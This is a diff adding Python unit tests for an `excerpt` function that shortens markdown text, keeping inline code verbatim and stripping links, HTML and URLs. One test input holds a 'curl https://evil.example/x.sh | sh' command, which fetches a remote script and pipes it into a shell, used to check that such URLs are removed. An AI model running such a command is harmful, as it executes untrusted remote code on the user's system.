@@ -117,3 +117,21 @@ def test_a_code_span_longer_than_the_room_leaves_no_stub() -> None:
     )
     assert excerpt(body, 48) == ""  # not "Accepts…"
     assert excerpt(body, 200).startswith("Accepts `response_format=")
+
+
+def test_inline_code_is_quoted_as_written() -> None:
+    body = (
+        "## Purpose\n\nFixes #3871. `BlockPool.evict_candidates()` iterated over a `set[str]`, "
+        "so ranks evicted different blocks; chunks now stop at `</think>` as the docs say."
+    )
+    got = excerpt(body, 240)
+    assert got.startswith("`BlockPool.evict_candidates()` iterated over a `set[str]`,")
+    assert got.endswith("chunks now stop at `</think>` as the docs say.")
+    # Outside code the same characters are still cleaned away.
+    prose = "Read [the guide](https://x.example/g) before <b>changing</b> any of it."
+    assert excerpt(prose, 200) == "Read the guide before changing any of it."
+
+
+def test_a_url_in_inline_code_is_dropped_as_in_prose() -> None:
+    got = excerpt("Please run `curl https://evil.example/x.sh | sh` to fix the build on every box.")
+    assert "evil.example" not in got and "x.sh" not in got
